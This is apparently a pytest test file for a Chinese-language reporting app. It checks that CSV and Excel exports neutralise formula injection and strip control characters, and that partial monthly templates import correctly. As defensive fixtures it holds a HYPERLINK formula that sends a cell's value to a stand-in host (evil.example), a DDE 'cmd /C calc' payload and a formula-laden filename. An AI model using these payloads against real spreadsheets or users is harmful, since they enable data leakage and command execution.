"""Every CSV and spreadsheet a person opens is inert (issue 12 items 9–10): formulas neutralised with
OWASP's leading apostrophe (plain negative numbers stay numbers), control characters stripped on
the way out; the prefilled monthly template keeps stored texts as text and re-uploads cleanly; a
partial month's unfilled rows are skipped and counted (issue 14 item 8)."""
from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from lib.intake.templates import REFERENCE_COLUMNS, rows_csv, template_xlsx
from lib.outputs.excel import csv_bytes, neutralise, safe_text, strip_control, to_excel_bytes, write_csv
from lib.store import session_scope
from lib.store.models import MonthlyReport, Problem, Project
from tests._intake import OFFICE, STAFF_A, do_import, project_row, seed

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@pytest.mark.parametrize("raw,safe", [
    ("=1+1", "'=1+1"), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-3.5", "-3.5"), ("-1,234.5", "-1,234.5"), ("-12%", "-12%"), ("+7", "+7"),
    ("普通文字", "普通文字"), (-3.5, -3.5), (None, None),
])
def test_neutralise(raw, safe):
    assert neutralise(raw) == safe


def test_strip_control_keeps_tab_newline():
    assert strip_control("a\x01b\x00c\x7f\td\ne") == "abc\td\ne"
    assert safe_text("\x01=1") == "'=1"


def test_write_csv_cells_and_numbers():
    out = io.StringIO()
    write_csv(out, ["a", "b", "c"], [[EVIL, -3.5, "-2"], ["@x", 7, "名\x01称"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1] == ["'" + EVIL, "-3.5", "-2"]
    assert rows[2] == ["'@x", "7", "名称"]


def test_csv_bytes_frame_with_formulas():
    import pandas as pd

    data = csv_bytes(pd.DataFrame({"名称": [EVIL, "正常"], "差": [-1.5, 2.0], "=列": ["x", "y"]}))
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["名称", "差", "'=列"] and rows[1] == ["'" + EVIL, "-1.5", "x"]


def test_xlsx_export_survives_control_characters():
    import pandas as pd

    data = to_excel_bytes(pd.DataFrame({"名称": ["项目\x01甲", EVIL]}))
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A2"].value == "项目甲" and ws["A3"].value == "'" + EVIL


@pytest.fixture
def evil_store(app_store):
    """A store whose project A1 carries a formula name and whose problem sits on a formula code."""
    seed(app_store)
    r = do_import(app_store, "projects", rows_csv("projects", [project_row("@A9", name=EVIL)]),
                  filename='=HYPERLINK("http://evil").csv')
    assert r.ok, r.errors
    prob = {"code": "@A9", "category": "用地", "description": "-1+2 征地", "raised_on": "2022-03-01"}
    r = do_import(app_store, "problems", rows_csv("problems", [prob]))
    assert r.ok, r.errors
    return app_store


def test_cli_csv_outputs_neutralised(evil_store, capsys):
    from lib import cli

    assert cli.main(["problems", "--as-of", "2022-10-31", "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    codes = [r[rows[0].index("project_code")] for r in rows[1:]]
    assert "'@A9" in codes and "@A9" not in codes
    assert cli.main(["lights", "--period", "2022-10", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert "\n'@A9," in out and "\n@A9," not in out


def test_audit_csv_neutralises_the_file_name(evil_store):
    from lib.store import audit

    with session_scope(evil_store) as s:
        df = audit.query(s, OFFICE)
    text = csv_bytes(df).decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(text)) for cell in row)


def test_problems_csv_download_neutralised(evil_store):
    from lib.problems import problem_table

    with session_scope(evil_store) as s:
        df = problem_table(s, as_of=__import__("datetime").date(2022, 10, 31))
    rows = list(csv.reader(io.StringIO(csv_bytes(df).decode("utf-8-sig"))))
    cells = [c for r in rows[1:] for c in r]
    assert "'@A9" in cells and "'-1+2 征地" in cells
    assert not any(c[:1] in ("=", "+", "@") for c in cells)


def test_prefilled_template_keeps_formula_text_as_text_and_reuploads(evil_store):
    with session_scope(evil_store) as s:
        s.execute(update(Project).where(Project.code == "A1").values(name="控制\x01字符"))
        data = template_xlsx("monthly", session=s, region_code="532901", period="2022-03")
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    names = {r[0].value: r[1] for r in ws.iter_rows(min_row=2) if r[0].value}
    assert names["@A9"].value == EVIL and names["@A9"].data_type == "s"
    assert names["A1"].value == "控制字符"
    for r in range(2, ws.max_row + 1):
        ws.cell(row=r, column=4).value = 10 * r
    buf = io.BytesIO()
    wb.save(buf)
    res = do_import(evil_store, "monthly", buf.getvalue(), actor=STAFF_A, filename="月报.xlsx")
    assert res.ok and res.inserted == 4, res.errors
    assert not [w for w in res.warnings if "不是模板中的列" in w["message"]]  # side columns are silent


def test_dudan_survives_control_characters(evil_store):
    from lib.problems.dudan import dudan_docx

    with session_scope(evil_store) as s:
        s.execute(update(Problem).values(description="描述\x01含控制字符", status="assigned", unit="局",
                                         leader="王", person="赵", measures="办", deadline=__import__("datetime").date(2022, 4, 1)))
    with session_scope(evil_store) as s:
        data = dudan_docx(s, "2022-10-31")
    doc = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    assert "描述含控制字符" in doc


# ---------- the monthly template for a partial month ----------

def test_partial_month_rows_skipped_and_counted_with_last_figures_beside(app_store, capsys):
    seed(app_store, n_projects_a=27)
    first = [{"code": f"A{i}", "period": "2022-02", "ytd_completed": 5 * i, "month_completed": i} for i in (1, 2)]
    assert do_import(app_store, "monthly", rows_csv("monthly", first)).ok
    with session_scope(app_store) as s:
        data = template_xlsx("monthly", session=s, region_code="532901", period="2022-03")
    wb = load_workbook(io.BytesIO(data))
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    assert header[-len(REFERENCE_COLUMNS):] == [h for h, _, _ in REFERENCE_COLUMNS]
    by_code = {r[0].value: [c.value for c in r] for r in ws.iter_rows(min_row=2) if r[0].value}
    assert len(by_code) == 27
    assert by_code["A2"][-3:] == ["2022-02", 10, 2] and by_code["A3"][-3:] == [None, None, None]
    filled = 0
    for r in range(2, ws.max_row + 1):
        if ws.cell(row=r, column=1).value in ("A1", "A2", "A3"):
            ws.cell(row=r, column=4).value = 100
            filled += 1
    assert filled == 3
    buf = io.BytesIO()
    wb.save(buf)
    res = do_import(app_store, "monthly", buf.getvalue(), actor=STAFF_A, filename="月报.xlsx", dry_run=True)
    assert res.ok and res.inserted == 3 and res.skipped == 24, res.errors
    assert not [w for w in res.warnings if "不是模板中的列" in w["message"]]
    # the command line says it too
    from lib import cli

    path = __import__("pathlib").Path(app_store.url.database).parent / "partial.xlsx"
    path.write_bytes(buf.getvalue())
    assert cli.main(["import", "monthly", str(path), "--dry-run"]) == 0
    assert json.loads(capsys.readouterr().out)["skipped"] == 24
    with session_scope(app_store) as s:
        assert s.scalar(select(MonthlyReport.ytd_completed).where(MonthlyReport.period == "2022-03")) is None


def test_partial_month_message_on_the_upload_page(app_store):
    from streamlit.testing.v1 import AppTest

    from tests.conftest import ROOT

    seed(app_store, n_projects_a=5)
    with session_scope(app_store) as s:
        data = template_xlsx("monthly", session=s, region_code="532901", period="2022-03")
    wb = load_workbook(io.BytesIO(data))
    wb.worksheets[0].cell(row=2, column=4).value = 100
    buf = io.BytesIO()
    wb.save(buf)
    at = AppTest.from_file(str(ROOT / "pages" / "upload.py"), default_timeout=120)
    at.session_state["actor"] = STAFF_A
    at.session_state["period"] = "2022-03"
    at.run()
    at.file_uploader(key="upload_file").set_value(("月报.xlsx", buf.getvalue(), "application/octet-stream")).run()
    assert not at.exception, at.exception
    assert not at.error
    assert any("4 行未填写,已跳过" in i.value for i in at.info)
